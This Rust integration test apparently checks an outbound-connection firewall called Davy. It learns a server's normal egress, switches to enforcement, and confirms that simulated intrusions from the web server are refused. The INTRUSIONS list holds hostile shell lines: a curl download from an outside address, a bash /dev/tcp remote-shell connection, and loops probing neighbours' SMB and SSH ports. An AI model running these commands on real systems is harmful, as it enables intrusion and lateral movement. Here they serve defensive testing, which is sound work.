//! Whom a server talks to: watched, learned, enforced, and then abused.

use std::fs;
use std::time::Duration;

use anyhow::{Context, Result, bail, ensure};
use davy_test_vm::network::{FOLDER, PACKAGE, outside};
use serde_json::Value;

use crate::host::{davy, run, wait_for, wait_so_long_for};

const POLICY: &str = "/etc/davy/davy.toml";

/// Everything that the server runs, and nothing of everybody else.
const OBSERVED: &str = "[scope]\ncgroups = [\"/system.slice\"]\n\n[outbound]\nmode = \"observe\"\n";

/// How long a name may come after the connection that it belongs to.
const SETTLE: Duration = Duration::from_secs(3);

/// Who came where an intruder would go.
const VISITED: &str = "/run/visited";

/// In which everything starts on an emulated processor.
const STARTED_WITHIN: Duration = Duration::from_secs(240);

/// What somebody does who may run a line in the web server, and whom each would reach.
const INTRUSIONS: [(&str, &str, &str); 4] = [
    (
        "a download from a new address",
        "curl -sS --max-time 20 http://203.0.113.66:8080/x",
        "203.0.113.66:8080",
    ),
    ("a shell for somebody far away", "bash -c 'exec 3<>/dev/tcp/203.0.113.66/4444'", "203.0.113.66:4444"),
    (
        "file sharing of neighbours",
        "for n in 40 41 42 43; do bash -c \"exec 3<>/dev/tcp/10.0.3.$n/445\"; done",
        "10.0.3.40:445",
    ),
    (
        "logins at neighbours",
        "for n in 40 41 42 43; do bash -c \"exec 3<>/dev/tcp/10.0.3.$n/22\"; done",
        "10.0.3.40:22",
    ),
];

pub(crate) fn step(name: &str) -> Result<()> {
    match name {
        "server_and_everybody_else_are_there" => stand(),
        "day_of_talk_is_watched" => watched(),
        "what_was_talked_is_accepted" => accepted(),
        "same_day_enforced_has_nothing_refused" => enforced(),
        "intruder_in_the_web_server_reaches_nobody" => intruder(),
        _ => bail!("there is no step {name}"),
    }
}

fn stand() -> Result<()> {
    run(&format!("{FOLDER}/world"), &[])?;
    run("systemctl", &["start", "outside.slice"])?;
    for unit in outside() {
        run("systemctl", &["start", &unit])?;
    }
    for unit in ["nginx", "chrony", "cron", "ssh", "php8.2-fpm", "postgresql"] {
        run("systemctl", &["restart", unit])?;
    }
    let shop = "CREATE TABLE orders (amount int); INSERT INTO orders VALUES (10), (20), (30)";
    let postgres = |arguments: &[&str]| run("runuser", &[&["-u", "postgres", "--"], arguments].concat());
    wait_so_long_for("PostgreSQL answers", STARTED_WITHIN, || {
        Ok(postgres(&["psql", "-qc", "SELECT 1"]).ok())
    })?;
    postgres(&["createdb", "shop"])?;
    postgres(&["psql", "-qd", "shop", "-c", shop])?;
    fs::create_dir_all("/etc/davy")?;
    fs::write(POLICY, OBSERVED)?;
    run("dpkg", &["--force-confold", "--install", PACKAGE])?;
    wait_so_long_for("Davy answers", STARTED_WITHIN, || Ok(davy(&["outbound", "status"]).ok()))?;
    Ok(())
}

/// What a visitor said of its visit.
fn visit(who: &str, number: u32) -> Result<String> {
    let done = run("systemctl", &["start", &format!("outside-{who}@{number}.service")]);
    let said = fs::read_to_string(format!("/run/outside-{who}.said")).unwrap_or_default();
    println!("{who} {number}: {said}");
    done.with_context(|| format!("{who} {number}: {said}"))?;
    Ok(said)
}

fn watched() -> Result<()> {
    visit("day", 1)?;
    let status = davy(&["outbound", "status"])?;
    ensure!(status["refused"] == 0, "refused while observing: {status}");
    ensure!(status["would"].as_u64().is_some_and(|would| would > 0), "nothing was judged: {status}");
    Ok(())
}

fn accepted() -> Result<()> {
    std::thread::sleep(SETTLE);
    let learned = run("davy", &["outbound", "learn"])?;
    println!("{learned}");
    for (who, wherever) in [
        ("nginx.service", "10.0.3.20"),
        ("php8.2-fpm.service", "app.example.org"),
        ("cron.service", "backup.example.org"),
        // By name, or by the address that it kept from before anybody watched.
        ("chrony.service", "ports = [123]"),
        ("fetch.service", "deb.example.org"),
    ] {
        ensure!(learned.contains(who) && learned.contains(wherever), "{who} -> {wherever} is not learned");
    }
    fs::write(POLICY, format!("{}\n{learned}", OBSERVED.replace("observe", "enforce")))?;
    run("davy", &["policy", "check"])?;
    run("davy", &["policy", "reload"])?;
    wait_for("the kernel enforces it", || {
        let status = davy(&["outbound", "status"])?;
        let faultless = status["faults"].as_array().is_some_and(Vec::is_empty);
        Ok((status["mode"] == "enforce" && faultless).then_some(()))
    })
}

fn refused() -> Result<u64> {
    let status = davy(&["outbound", "status"])?;
    status["refused"].as_u64().with_context(|| format!("no count of what was refused: {status}"))
}

fn enforced() -> Result<()> {
    visit("day", 2)?;
    let refused = refused()?;
    ensure!(refused == 0, "{refused} refused: {}", run("davy", &["findings"])?);
    Ok(())
}

fn intruder() -> Result<()> {
    for (number, (what, line, destination)) in (1..).zip(INTRUSIONS) {
        let before = refused()?;
        fs::write("/run/intrusion", line)?;
        let said = visit("intruder", number)?;
        let refusal =
            ["Operation not permitted", "Permission denied", "Couldn't connect", "Failed to connect"];
        ensure!(refusal.iter().any(|words| said.contains(words)), "{what}: {said}");
        ensure!(!fs::exists(VISITED)?, "{what}: somebody came to {}", fs::read_to_string(VISITED)?);
        let explained = wait_for(&format!("{what} is explained"), || {
            ensure!(refused()? > before, "nothing was refused");
            explained(destination)
        })?;
        println!("{explained}");
        ensure!(explained.contains("php8.2-fpm.service"), "{what}: whose it was is not said: {explained}");
    }
    Ok(())
}

/// What is said of the finding about a destination.
fn explained(destination: &str) -> Result<Option<String>> {
    let findings = davy(&["findings", "--limit", "1000"])?;
    let about = |finding: &&Value| finding["kind"] == "outbound" && finding.to_string().contains(destination);
    let Some(finding) = findings.as_array().into_iter().flatten().find(about) else { return Ok(None) };
    let id = finding["id"].as_u64().with_context(|| format!("a finding without a number: {finding}"))?;
    run("davy", &["explain", &format!("f{id}")]).map(Some)
}
